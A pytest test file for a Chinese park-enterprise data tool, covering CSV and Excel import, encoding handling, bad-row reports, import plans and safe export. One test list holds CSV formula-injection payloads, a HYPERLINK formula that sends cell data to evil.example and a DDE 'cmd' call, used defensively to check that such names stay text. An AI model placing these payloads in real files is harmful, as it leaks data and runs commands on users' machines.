"""Park tables as people type them and as the app writes them: lenient cells, a plan before writing, an
update that keeps what the table does not hold, bad rows set aside, and formulas that stay text."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import json
from pathlib import Path

import pytest

from shenbao.core.store import Store, StoreError
from shenbao.core.store.imports import apply_plan, plan_import, read_incoming
from shenbao.core.store.tables import ERRORS_LABEL, TableError, read_rows, read_table, write_table
from shenbao.core.store.transfer import export_table, import_into, read_sources
from tests.store.factory import assert_refused, make_profile, make_uscc, shenbao


def no_passphrase() -> str | None:
    return None


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def write_csv(path: Path, rows: list[list[object]], encoding: str = "utf-8-sig") -> Path:
    with path.open("w", encoding=encoding, newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


HEADER = [
    "企业（单位）名称",
    "统一社会信用代码",
    "单位类型",
    "成立日期",
    "年度购买算力服务总额（元）",
    "自主芯片算力标称值占比",
    "人工智能企业",
    "从业人数",
]


def test_cells_as_people_type_them_in_a_gbk_csv(tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "park.csv",
        [
            HEADER,
            ["甲公司", f"  {make_uscc(1).lower()} ", "企业", "2019/6/18", "25万", "35%", "是", "12人"],
            ["乙大学", make_uscc(2), "高校", "2020年1月2日", "￥250,000", "0.35", "√", "1,200"],
            ["丙研究院", make_uscc(3), "科研院所", "20210315", "250000元", "40 %", "否", "3"],
            ["丁中心", make_uscc(4), "事业单位", "2022.3.4", "1，000", "", "×", ""],
        ],
        encoding="gbk",
    )
    profiles = read_table(path)
    got = [
        (
            p.uscc,
            p.enterprise["org_type"],
            p.enterprise["established_on"].isoformat(),
            p.facts["compute_purchase_amount"],
        )
        for p in profiles
    ]
    assert [g[1:] for g in got] == [
        ("enterprise", "2019-06-18", 250000),
        ("university", "2020-01-02", 250000),
        ("research_institute", "2021-03-15", 250000),
        ("public_institution", "2022-03-04", 1000),
    ]
    assert got[0][0] == make_uscc(1)
    assert profiles[0].to_dict()["facts"]["infra_domestic_chip_ratio"] == 0.35
    assert profiles[1].enterprise["employees"] == 1200 and profiles[3].enterprise["is_ai_enterprise"] is False


@pytest.mark.parametrize("encoding", ["gbk", "utf-8-sig", "gb18030", "utf-16"])
def test_a_csv_checked_in_pieces_reads_as_a_whole_wherever_a_piece_ends(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, encoding: str
) -> None:
    """A CSV's encoding is checked (a UTF-16 one converted) a piece at a time (a megabyte); pieces of one
    to seven bytes end inside every kind of character, GB18030's four-byte ones and UTF-16's pairs (𠀾)
    among them."""
    from shenbao.core.store import tables

    rows = [
        HEADER,
        [
            "甲公司" if encoding in ("gbk", "utf-8-sig") else "甲公司·𠀾",
            make_uscc(1),
            "企业",
            "2019/6/18",
            "25万",
        ],
    ]
    rows += [["乙大学", make_uscc(2), "高校", "2020年1月2日", "￥250,000"]]
    path = write_csv(tmp_path / "park.csv", rows, encoding=encoding)
    whole = [p.to_dict() for p in read_table(path)]
    assert whole[0]["enterprise"]["name"] == rows[1][0] and len(whole) == 2
    for size in range(1, 8):
        monkeypatch.setattr(tables, "_DECODED_AT_ONCE", size)
        assert [p.to_dict() for p in read_table(path)] == whole, size


def test_a_csv_saved_as_unicode_text_reads_as_the_same_table_in_utf_8(tmp_path: Path) -> None:
    """Excel's and WPS's 「Unicode 文本」 is UTF-16 with a byte-order mark, little- or big-endian, its
    cells parted by tabs: the same table as saved in UTF-8, down to a formula-like name kept as text."""
    rows = [HEADER, ["'=甲公司·𠀾", make_uscc(1), "企业", "2019/6/18", "25万"]]
    rows += [["乙大学", make_uscc(2), "高校", "2020年1月2日", "￥250,000"]]
    expected = [p.to_dict() for p in read_table(write_csv(tmp_path / "utf8.csv", rows))]
    assert expected[0]["enterprise"]["name"] == "=甲公司·𠀾"
    text = "".join("\t".join(map(str, row)) + "\r\n" for row in rows)
    for name, data in (
        ("le.csv", codecs.BOM_UTF16_LE + text.encode("utf-16-le")),
        ("be.csv", codecs.BOM_UTF16_BE + text.encode("utf-16-be")),
    ):
        (tmp_path / name).write_bytes(data)
        assert [p.to_dict() for p in read_table(tmp_path / name)] == expected, name


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (
            codecs.BOM_UTF16_LE + "企业（单位）名称,统一社会信用代码\n".encode("utf-16-le") + b"\x42",
            "编码无法识别",
        ),
        (
            codecs.BOM_UTF16_LE + "企业（单位）名称\n".encode("utf-16-le") + b"\x00\xd8\x41\x00",
            "编码无法识别",
        ),
        (codecs.BOM_UTF32_LE + "企业（单位）名称\n".encode("utf-32-le"), "编码无法识别"),
        (codecs.BOM_UTF16_LE + "企业（单位）名称,\x00\n".encode("utf-16-le"), "不是文本表格"),
    ],
    ids=["odd-byte", "half-a-pair", "utf-32", "zero-character"],
)
def test_a_csv_that_is_not_utf_16_after_its_mark_is_refused(tmp_path: Path, data: bytes, words: str) -> None:
    path = tmp_path / "园区.csv"
    path.write_bytes(data)
    with pytest.raises(StoreError, match=words):
        read_table(path)


def test_excel_date_and_number_cells(tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(HEADER)
    book.active.append(["甲公司", make_uscc(1), "企业", dt.datetime(2019, 6, 18), 250000, 0.35, True, 12])
    book.save(tmp_path / "park.xlsx")
    (profile,) = read_table(tmp_path / "park.xlsx")
    assert profile.to_dict()["enterprise"]["established_on"] == "2019-06-18"
    assert profile.to_dict()["facts"] == {
        "compute_purchase_amount": 250000,
        "infra_domestic_chip_ratio": 0.35,
    }


def test_every_bad_row_is_named_and_the_good_ones_are_kept_aside(tmp_path: Path) -> None:
    rows = [HEADER] + [
        [f"企业{i}", make_uscc(i), "企业", "2020-01-01", "1000", "", "是", ""] for i in range(30)
    ]
    rows[8][3] = "2020-02-30"
    rows[9][1] = make_uscc(3)  # the same code as row 5
    path = write_csv(tmp_path / "park.csv", rows)
    table = read_rows(path)
    bad = {r.number: r.errors for r in table.rows if r.errors}
    assert set(bad) == {9, 10}
    assert "与第 5 行重复" in bad[10][0][1] and bad[9][0][0] == "成立日期"
    with pytest.raises(TableError, match="2 处错误"):
        read_table(path)
    incoming, rejected = read_incoming([path], no_passphrase)
    assert len(incoming) == 28 and [r.row for r in rejected] == [9, 10]


def stored_with_everything(folder: Path, i: int) -> dict:
    """A profile with every list a table cannot carry: roster, invoices, products, phone, unknown keys."""
    doc = make_profile(i, engineers=5)
    doc["facts"].pop("compute_purchase_amount")
    doc["facts"]["compute_invoices"] = [
        {"supplier": "福州算力中心", "invoice_no": f"0{k}", "date": "2025-10-01", "amount": 100000}
        for k in range(3)
    ]
    doc["enterprise"]["employees"] = 12
    with Store.open(folder) as store:
        store.save_profile(doc)
        return store.get_profile(make_uscc(i))


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_reimporting_the_apps_own_table_with_replace_loses_nothing(tmp_path: Path, suffix: str) -> None:
    data = tmp_path / "data"
    before = [stored_with_everything(data, i) for i in range(3)]
    out = tmp_path / f"park{suffix}"
    with Store.open(data) as store:
        export_table(store, out)
        report = import_into(store, read_sources([out], no_passphrase), "replace")
        after = [store.get_profile(make_uscc(i)) for i in range(3)]
    assert after == before
    assert report.unchanged == [make_uscc(i) for i in range(3)] and not report.replaced


def test_a_table_updates_only_its_columns_and_says_what_changes(tmp_path: Path) -> None:
    data = tmp_path / "data"
    before = stored_with_everything(data, 1)
    path = write_csv(
        tmp_path / "update.csv",
        [
            [
                "企业（单位）名称",
                "统一社会信用代码",
                "从业人数",
                "成立日期",
                "年度购买算力服务总额（元）",
                "联系人",
            ],
            [before["enterprise"]["name"], make_uscc(1), "15", "", "30万", " 李四 "],
        ],
    )
    with Store.open(data) as store:
        plan = plan_import(store, *read_incoming([path], no_passphrase))
        (entry,) = plan.entries
        assert entry.action == "update" and entry.removed == []
        assert [str(c) for c in entry.changes] == ["从业人数：12 → 15", "联系人：（空） → 李四"]
        assert "不删去任何内容" in entry.describe()
        apply_plan(store, plan, "replace", today=dt.date(2026, 11, 22))
        after = store.get_profile(make_uscc(1))
    expected = json.loads(json.dumps(before))
    expected["enterprise"].update(employees=15, contact_name="李四")
    imported = {"source": "imported", "date": "2026-11-22", "file": "update.csv"}
    expected["provenance"] = {
        **expected.get("provenance", {}),
        "enterprise.employees": imported,
        "enterprise.contact_name": imported,
    }  # only the fields the row changed
    assert after == expected  # the roster, invoices, phone and unknown keys are as they were


@pytest.mark.parametrize(
    ("column", "cell", "said"),
    [
        (
            "列入核心工程师名册的人数",
            "6",
            "与核心工程师名册不一致：列入核心工程师名册的人数为 6，核心工程师名册合计为 5",
        ),
        # said 「与明细 facts.compute_invoices 不一致：…为 2000000，…合计为 300000」: a field's internal
        # name, and sums without their separators
        (
            "年度购买算力服务总额（元）",
            "200万",
            "与算力服务发票不一致：年度购买算力服务总额（元）为 2,000,000.00，算力服务发票合计为 300,000.00",
        ),
    ],
)
def test_a_figure_that_disagrees_with_the_stored_list_is_a_bad_row_said_in_words(
    tmp_path: Path, column: str, cell: str, said: str
) -> None:
    data = tmp_path / "data"
    before = stored_with_everything(data, 1)
    path = write_csv(
        tmp_path / "t.csv",
        [
            ["企业（单位）名称", "统一社会信用代码", column],
            [before["enterprise"]["name"], make_uscc(1), cell],
        ],
    )
    with Store.open(data) as store:
        plan = plan_import(store, *read_incoming([path], no_passphrase))
        assert plan.rejected[0].errors == [(column, said)]
        assert plan.entries == []
        with pytest.raises(TableError):
            apply_plan(store, plan, "replace")
        assert store.get_profile(make_uscc(1)) == before


def test_a_plan_made_stale_by_another_writer_is_refused(tmp_path: Path) -> None:
    data = tmp_path / "data"
    stored_with_everything(data, 1)
    path = write_csv(
        tmp_path / "t.csv",
        [["企业（单位）名称", "统一社会信用代码", "从业人数"], ["新名称", make_uscc(1), "20"]],
    )
    with Store.open(data) as store:
        plan = plan_import(store, *read_incoming([path], no_passphrase))
        doc = store.get_profile(make_uscc(1))
        doc["enterprise"]["employees"] = 99
        store.save_profile(doc)
        with pytest.raises(StoreError, match="预览之后数据已被修改"):
            apply_plan(store, plan, "replace")
        assert store.get_profile(make_uscc(1))["enterprise"]["employees"] == 99


NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "'=已有引号",
    "'普通引号",
]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_names_that_look_like_formulas_stay_text_and_come_back_exactly(tmp_path: Path, suffix: str) -> None:
    docs = [
        {"enterprise": {"name": name, "uscc": make_uscc(i), "address": f"\t{name}地址\r\n二楼"}, "facts": {}}
        for i, name in enumerate(NAMES)
    ]
    docs.append({"enterprise": {"name": "\t=制表符开头", "uscc": make_uscc(40)}, "facts": {}})
    docs.append({"enterprise": {"name": "\r=回车开头", "uscc": make_uscc(41)}, "facts": {}})
    with Store.open(tmp_path / "a") as store:
        for doc in docs:
            store.save_profile(doc)
        stored = [store.get_profile(make_uscc(i)) for i in [*range(len(NAMES)), 40, 41]]
        out = tmp_path / f"park{suffix}"
        export_table(store, out)
    assert [s["enterprise"]["name"] for s in stored[-2:]] == [
        "=制表符开头",
        "=回车开头",
    ]  # trimmed at the door
    if suffix == ".csv":
        text = out.read_text(encoding="utf-8-sig")
        assert "\n=" not in text and ",=" not in text and "\n+" not in text and ",@" not in text
        assert "\"'=HYPERLINK(" in text
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(out).active
        assert all(cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row if cell.value)
    with Store.open(tmp_path / "b") as store:
        import_into(store, read_sources([out], no_passphrase))
        back = [store.get_profile(make_uscc(i)) for i in [*range(len(NAMES)), 40, 41]]
    assert all(doc.pop("provenance")["enterprise.name"]["file"] == out.name for doc in back)
    assert back == stored


@pytest.mark.parametrize("char", ["\x00", "\x0b", "\x1f"])
def test_control_characters_are_refused_at_the_door_naming_the_field(tmp_path: Path, char: str) -> None:
    path = write_csv(
        tmp_path / "t.csv",
        [["企业（单位）名称", "统一社会信用代码", "注册地址"], ["好公司", make_uscc(1), f"鼓楼区{char}1号"]],
    )
    with pytest.raises(
        StoreError, match="「注册地址」：含不可见的控制字符" if char != "\x00" else "不是文本表格"
    ):
        read_table(path)
    with Store.open(tmp_path / "data") as store:
        with pytest.raises(Exception, match="enterprise.name: 企业（单位）名称含不可见的控制字符"):
            store.save_profile({"enterprise": {"name": f"坏{char}公司", "uscc": make_uscc(1)}})
        assert store.count_enterprises() == 0


def test_a_message_about_thirty_thousand_rows_stays_short_and_lists_them_all_in_a_file(
    tmp_path: Path,
) -> None:
    rows = [["企业（单位）名称", "统一社会信用代码"]] + [[f"企业{i}", f"BAD{i}"] for i in range(30_000)]
    path = write_csv(tmp_path / "big.csv", rows)
    with pytest.raises(TableError) as caught:
        read_table(path)
    message = str(caught.value)
    assert len(message) < 1000 and "30,000 处错误" in message and "…另有 29,995 处" in message
    listed = Path(message.rsplit("完整列表见 ", 1)[1].rstrip("）"))
    assert len(listed.read_text(encoding="utf-8").splitlines()) == 30_000
    listed.unlink()


def test_the_export_writes_chinese_org_types_and_every_cell_as_text(tmp_path: Path) -> None:
    docs = [
        {
            "enterprise": {"name": "某大学", "uscc": make_uscc(1), "org_type": "university", "employees": 30},
            "facts": {"infra_domestic_chip_ratio": 0.125, "compute_purchase_amount": "1234.56"},
        }
    ]
    out = write_table(tmp_path / "t.csv", docs)
    rows = read_csv(out)
    assert rows[1] == ["某大学", make_uscc(1), "高校", "30", "1234.56", "12.5%"]


def test_the_real_command_skips_bad_rows_only_when_asked(tmp_path: Path) -> None:
    data = tmp_path / "data"
    rows = [HEADER] + [
        [f"企业{i}", make_uscc(i), "企业", "2020/1/1", "1,000", "", "是", ""] for i in range(30)
    ]
    rows[7][4] = "很多"
    path = write_csv(tmp_path / "park.csv", rows, encoding="gbk")
    rejects = tmp_path / "rejects.csv"
    assert_refused(shenbao(data, "import", str(path)), "第 8 行「年度购买算力服务总额（元）」")
    assert shenbao(data, "profiles", "list", "--format", "json").stdout.strip() in ("[]", "")
    done = shenbao(data, "import", str(path), "--skip-bad-rows", "--rejects", str(rejects))
    assert done.returncode == 0, done.stderr
    assert "新增 29 家" in done.stderr and "跳过有错误的 1 行" in done.stderr
    table = read_csv(rejects)
    assert table[0][-1] == ERRORS_LABEL and table[1][0] == "企业6" and "第 8 行" in table[1][-1]
    table[1][4] = "1000"
    write_csv(rejects, table)
    again = shenbao(data, "import", str(rejects))
    assert again.returncode == 0, again.stderr
    listed = json.loads(shenbao(data, "profiles", "list", "--format", "json").stdout)
    assert len(listed) == 30


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_escaped_cells_saved_back_unquoted_are_not_taken_for_quotes(tmp_path: Path, delimiter: str) -> None:
    """A spreadsheet saves the apostrophe-escaped cells without quotes; the apostrophe is no quote mark."""
    lines = [
        delimiter.join(["企业（单位）名称", "统一社会信用代码", "注册地址"]),
        delimiter.join(["'@甲公司", make_uscc(1), "'=鼓楼区"]),
        delimiter.join(["'+乙公司", make_uscc(2), "'-台江区"]),
    ]
    path = tmp_path / "saved.csv"
    path.write_text("\n".join(lines) + "\n", encoding="gb18030")
    got = [(p.name, p.uscc, p.enterprise["address"]) for p in read_table(path)]
    assert got == [("@甲公司", make_uscc(1), "=鼓楼区"), ("+乙公司", make_uscc(2), "-台江区")]


def test_every_field_the_app_writes_reads_back_by_its_label(tmp_path: Path) -> None:
    """Each column is headed by its field's label as the model writes it, spaces and all (算力标称值（P，
    按 FP16 计）), and a table of every field of the profile imports back to the same document."""
    from shenbao.core.model import ENTERPRISE_FIELDS, FACT_FIELDS

    sample = {
        "text": "甲",
        "name": "甲公司",
        "province": "福建省",
        "city": "福州市",
        "uscc": make_uscc(1),
        "org_type": "university",
        "bool": True,
        "phone": "0591-87654321",
        "email": "a@b.cn",
        "date": "2024-03-01",
        "money": 1250000.5,
        "count": 12,
        "year_index": 2,
        "number": 7.5,
        "ratio": 0.35,
    }
    doc = {
        section: {key: sample[spec.kind] for key, spec in specs.items()}
        for section, specs in (("enterprise", ENTERPRISE_FIELDS), ("facts", FACT_FIELDS))
    }
    assert any(" " in spec.label for spec in FACT_FIELDS.values())
    out = write_table(tmp_path / "park.csv", [doc])
    (row,) = read_rows(out).rows
    assert row.errors == [] and row.document == doc


def the_slow_way(cells: list[object], header: list[str], number: int) -> tuple:
    """A row as read cell by cell and checked as a whole profile (the way a bad row is read again)."""
    from shenbao.core.store import tables

    columns = tables._columns()
    labels = [tables._header(h) for h in header]
    mapped = [columns.get(h) for h in labels]
    row = tables._row(number, cells, labels, mapped)
    tables._check_profile(row, {m[:2]: lb for m, lb in zip(mapped, labels, strict=True) if m})
    return row


@pytest.mark.parametrize("order", ["as written", "shuffled"])
def test_a_row_read_once_per_distinct_cell_is_the_row_read_cell_by_cell(tmp_path: Path, order: str) -> None:
    header = [
        "企业（单位）名称",
        "统一社会信用代码",
        "单位类型",
        "enterprise.district",
        "成立日期",
        "认定情况",
        "年度购买算力服务总额（元）",
        "自主芯片算力标称值占比",
        "列入核心工程师名册的人数",
        "",
    ]
    cells = [
        [
            "甲公司",
            make_uscc(1),
            "企业",
            "鼓楼区",
            "2019-03-01",
            "国家重点实验室:2020-01-01",
            "250,000",
            "35%",
            "3",
            "",
        ],
        ["  乙公司 ", make_uscc(2).lower(), "", "", "2019/3/1", "", "25万", "0.35", "0", " "],
        ["甲公司", make_uscc(3), "企业", "鼓楼区", "", "", "250,000", "", "", ""],
        ["", "", "", " ", "", "", "", "", "", "\u3000"],  # blank: skipped
        ["丙公司", make_uscc(4), "高校", "", "2019-03-01", "", "abc", "2", "-1", ""],  # bad cells
        ["=丁公司", make_uscc(5), "企业", "鼓楼区", "2019-13-01", "", "250,000", "", "3", ""],
        ["戊公司", make_uscc(6), "企业", "\u0007", "2020年1月2日", "", "1,000.50", "", "", ""],
    ]
    if order == "shuffled":
        turn = [3, 1, 0, 7, 4, 2, 5, 6, 8, 9]
        header = [header[i] for i in turn]
        cells = [[row[i] for i in turn] for row in cells]
    read = read_rows(write_csv(tmp_path / "园区.csv", [header, *cells]))
    assert [r.number for r in read.rows] == [2, 3, 4, 6, 7, 8]
    for row in read.rows:
        slow = the_slow_way(cells[row.number - 2], header, row.number)
        assert (row.document, list(row.document["enterprise"]), row.fields, row.errors) == (
            slow.document,
            list(slow.document["enterprise"]),
            slow.fields,
            slow.errors,
        )
        if slow.errors:
            assert row.profile is None
            continue
        assert row.profile is not None
        for mine, theirs in (
            (row.profile.enterprise, slow.profile.enterprise),
            (row.profile.facts, slow.profile.facts),
        ):
            assert list(mine.items()) == list(theirs.items())
        assert row.profile.to_dict() == slow.profile.to_dict()
        assert row.profile.recognitions == slow.profile.recognitions
    assert [r.profile is not None for r in read.rows] == [True, True, True, False, False, False]


def test_a_plan_made_stale_by_another_program_is_refused_and_an_unchanged_store_is_not_planned_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from shenbao.core.store import imports

    data = tmp_path / "data"
    stored_with_everything(data, 1)
    path = write_csv(
        tmp_path / "t.csv",
        [
            ["企业（单位）名称", "统一社会信用代码", "从业人数"],
            ["新名称", make_uscc(1), "20"],
            ["乙公司", make_uscc(2), ""],
        ],
    )
    with Store.open(data) as store:
        plan = plan_import(store, *read_incoming([path], no_passphrase))
        with Store.open(data) as other:  # another window or a `shenbao` command, in between
            other.save_profile(make_profile(2))
        with pytest.raises(StoreError, match="预览之后数据已被修改"):
            apply_plan(store, plan, "replace")
        assert store.get_profile(make_uscc(1))["enterprise"]["name"] != "新名称"
        plan = plan_import(store, *read_incoming([path], no_passphrase))
        planned = []
        monkeypatch.setattr(imports, "plan_import", lambda *a, **k: planned.append(a) or plan)
        apply_plan(store, plan, "replace")
        assert planned == [] and store.get_profile(make_uscc(1))["enterprise"]["name"] == "新名称"


def test_the_key_is_asked_for_only_when_a_row_holds_a_sensitive_field(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import keyring
    import keyring.backends.fail

    monkeypatch.setattr(keyring, "get_keyring", keyring.backends.fail.Keyring)
    monkeypatch.delenv("SHENBAO_PASSPHRASE", raising=False)
    asked: list[bool] = []

    def prompt(new: bool) -> str:
        asked.append(new)
        return "园区服务中心口令2026"

    header = ["企业（单位）名称", "统一社会信用代码", "联系电话"]
    plain = write_csv(tmp_path / "plain.csv", [header[:2], ["甲公司", make_uscc(1)]])
    blank = write_csv(
        tmp_path / "blank.csv", [header, ["乙公司", make_uscc(2), ""], ["丙公司", make_uscc(3), " "]]
    )
    phone = write_csv(
        tmp_path / "phone.csv",
        [header, ["丁公司", make_uscc(4), ""], ["戊公司", make_uscc(5), "13800000000"]],
    )
    with Store.open(tmp_path / "data", prompt=prompt) as store:
        for path in (plain, blank):
            apply_plan(store, plan_import(store, *read_incoming([path], no_passphrase)))
        assert asked == []
        apply_plan(store, plan_import(store, *read_incoming([phone], no_passphrase)))
        assert asked == [True]  # a new key, asked for once, before the write
        stored = store.conn.execute(
            "SELECT document FROM enterprises WHERE uscc = ?", (make_uscc(5),)
        ).fetchone()
        assert "13800000000" not in stored[0]
        assert store.get_profile(make_uscc(5))["enterprise"]["contact_phone"] == "13800000000"


@pytest.mark.parametrize(
    "cell",
    [
        make_uscc(7),
        make_uscc(7).lower(),
        f" {make_uscc(7)} ",
        make_uscc(7)[:6] + "-" + make_uscc(7)[6:],
        "９１" + make_uscc(7)[2:],
        make_uscc(7)[:-1] + "Z",
        "91350100MA2XXXXX0X",
        "913501",
        "91350100MA2XXXXX0I",
    ],
)
def test_a_credit_code_cell_reads_as_the_field_kind_reads_and_checks_it(cell: str) -> None:
    from shenbao.core import fieldkinds
    from shenbao.core.fieldkinds import FieldValueError
    from shenbao.core.store.tables import _Readers

    reader = _Readers([("enterprise", "uscc", "uscc")])
    try:
        given = fieldkinds.parse("uscc", cell)
        expected: object = (given, fieldkinds.check("uscc", given), True)
    except FieldValueError as err:
        expected = err.message
    try:
        assert reader.read(0, "uscc", cell) == expected
    except FieldValueError as err:
        assert err.message == expected


def test_a_park_table_of_short_place_names_stores_the_whole_names(tmp_path: Path) -> None:
    """A GBK table typed by people writes 福建 and 福州: the store keeps 福建省 and 福州市, as the measures
    name them, and a table saying 福州 over a stored 福州市 changes nothing."""
    data = tmp_path / "data"
    header = ["企业（单位）名称", "统一社会信用代码", "注册地（省）", "注册地（市）", "注册地（区县）"]
    rows = [
        header,
        ["甲公司", make_uscc(1), "福建", "福州", "鼓楼区"],
        ["乙公司", make_uscc(2), " 福建省 ", "厦门", "思明区"],
        ["丙公司", make_uscc(3), "广东", "深圳", "南山区"],
        ["丁公司", make_uscc(4), "福建", "福州市鼓楼区", ""],
        ["戊公司", make_uscc(5), "", "", ""],
    ]
    path = write_csv(tmp_path / "园区.csv", rows, encoding="gbk")
    done = shenbao(data, "import", str(path))
    assert done.returncode == 0, done.stderr
    places = []
    for i in range(1, 6):
        shown = json.loads(shenbao(data, "profiles", "show", make_uscc(i)).stdout)["enterprise"]
        places.append((shown.get("province"), shown.get("city")))
    assert places == [
        ("福建省", "福州市"),
        ("福建省", "厦门市"),
        ("广东", "深圳"),
        ("福建省", "福州市鼓楼区"),
        (None, None),
    ]
    listed = json.loads(shenbao(data, "profiles", "list", "--format", "json").stdout)
    assert {e["uscc"]: e["city"] for e in listed}[make_uscc(1)] == "福州市"
    again = write_csv(tmp_path / "again.csv", rows[:2], encoding="gbk")
    with Store.open(data) as store:
        (entry,) = plan_import(store, *read_incoming([again], no_passphrase)).entries
    assert entry.changes == []


def test_a_csv_whose_lines_end_in_a_carriage_return_reads_as_the_same_table(tmp_path: Path) -> None:
    """Excel for Mac's 「CSV (Macintosh)」 ends each line with a carriage return alone. Read as one long
    line, such a table was refused as 「CSV 格式错误（new-line character seen in unquoted field - do you
    need to open the file in universal-newline mode?）」; it is the same table as with line feeds, a
    line break kept inside a quoted cell."""
    rows = [
        [*HEADER, "注册地址"],
        ["甲公司", make_uscc(1), "企业", "2019/6/18", "25万", "", "", "", "福州\n鼓楼"],
    ]
    rows += [["乙大学", make_uscc(2), "高校", "2020年1月2日", "￥250,000"]]
    expected = [p.to_dict() for p in read_table(write_csv(tmp_path / "lf.csv", rows))]
    text = "".join(",".join(f'"{v}"' if "\n" in v or "," in v else v for v in row) + "\r" for row in rows)
    for encoding in ("utf-8", "gb18030"):
        mac = tmp_path / f"mac-{encoding}.csv"
        mac.write_bytes(text.encode(encoding))
        assert [p.to_dict() for p in read_table(mac)] == expected, encoding


def test_codes_and_numbers_kept_as_text_the_way_exports_keep_them_are_read(tmp_path: Path) -> None:
    """Programs that write a CSV for Excel keep a long number from becoming 9.13501E+17 by writing it as
    the formula ="91350100…" or after an apostrophe, as one types it in Excel. In a column of codes,
    phones, counts, amounts or dates neither is part of the value: the rows were refused as
    「格式或校验码不符（收到 ="91350100000000003T"）」. A text column keeps what it is given."""
    rows = [
        ["企业（单位）名称", "统一社会信用代码", "联系电话", "从业人数", "成立日期", "注册地址"],
        ["甲公司", f"'{make_uscc(1)}", "'05918765432", "'30", "'2020-01-02", "'1号楼"],
        ["乙公司", f'="{make_uscc(2)}"', '="05918765432"', '="30"', '="2020/1/2"', '="2号楼"'],
    ]
    path = tmp_path / "系统导出.csv"
    path.write_text("\n".join(",".join(row) for row in rows) + "\n", encoding="gb18030")
    read = [p.to_dict()["enterprise"] for p in read_table(path)]
    assert [e["uscc"] for e in read] == [make_uscc(1), make_uscc(2)]
    assert [e["contact_phone"] for e in read] == ["05918765432"] * 2
    assert [e["employees"] for e in read] == [30, 30]
    assert [e["established_on"] for e in read] == ["2020-01-02"] * 2
    assert [e["address"] for e in read] == ["'1号楼", '="2号楼"']


def test_a_field_headed_twice_is_named_with_its_columns(tmp_path: Path) -> None:
    """Two columns of one field (a sheet put together from two, 注册资本（元） and 注册资本(元)) cannot
    both be read; the refusal said only 「表头中有重复的字段」, leaving the user to find which of 56."""
    path = write_csv(
        tmp_path / "合并.csv",
        [
            ["企业（单位）名称", "统一社会信用代码", "注册资本（元）", "从业人数", "注册资本(元)"],
            ["甲公司", make_uscc(1), "100", "3", "200"],
        ],
    )
    with pytest.raises(StoreError) as refused:
        read_table(path)
    assert (
        str(refused.value) == f"{path}: 第 1 行表头中「注册资本（元）」出现了两次（C、E 列）：请删去其中一列"
    )


def test_a_recognition_changed_by_a_table_is_said_by_its_chinese_label(tmp_path: Path) -> None:
    """The plan said 「认定情况：（空） → provincial_enterprise_key_lab:2024-03-01」, a kind's internal
    name; it says the label the table itself takes and the export writes."""
    data = tmp_path / "data"
    doc = make_profile(1, engineers=0)
    doc["enterprise"]["recognitions"] = []
    with Store.open(data) as store:
        store.save_profile(doc)
    path = write_csv(
        tmp_path / "t.csv",
        [
            ["企业（单位）名称", "统一社会信用代码", "认定情况"],
            [doc["enterprise"]["name"], make_uscc(1), "省级企业重点实验室:2024/3/1"],
        ],
    )
    with Store.open(data) as store:
        plan = plan_import(store, *read_incoming([path], no_passphrase))
    (entry,) = plan.entries
    assert "认定情况：（空） → 省级企业重点实验室:2024-03-01" in entry.describe(), entry.describe()


@pytest.mark.parametrize(
    "header",
    [
        ["企业", "区县", "算力服务补助（元）", "合计（元）", "另有需确认能否叠加（元）"],
        [
            "Enterprise",
            "District",
            "Compute voucher (CNY)",
            "Total (CNY)",
            "Further, if the subsidies may be combined (CNY)",
        ],
    ],
)
def test_the_park_views_export_of_its_judgements_is_told_apart(tmp_path: Path, header: list[str]) -> None:
    """The park view's 导出表格 (each tenant's sums per measure) imported back was refused as 「表头「企业」
    不是已知的字段名（是否指「为龙头企业」？）」; it says what the table is and where an importable one comes
    from."""
    path = write_csv(tmp_path / "园区视图.csv", [header, ["福州某公司", "鼓楼区", "125000", "125000", "0"]])
    run = shenbao(tmp_path / "data", "import", str(path))
    assert_refused(run, "这是园区视图导出的测算结果", "文件 → 导出")
